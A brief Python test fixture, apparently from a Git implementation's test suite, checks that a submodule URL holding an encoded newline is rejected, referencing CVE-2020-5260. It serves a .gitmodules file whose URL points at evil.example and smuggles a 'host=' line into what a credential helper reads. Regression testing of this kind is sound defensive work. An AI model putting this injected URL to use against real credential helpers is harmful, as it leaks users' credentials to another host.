"""An encoded newline in an address, for a credential helper.

Reference: CVE-2020-5260"""

from wire import oid, tree_entry

EXPECT = r"encoded control character"


def serve(server):
    text = b"[submodule \"a\"]\n\tpath = a\n\turl = https://evil.example/%0ahost=example.org\n"
    server.offer_tree(tree_entry("100644", ".gitmodules", oid("blob", text)), [text])
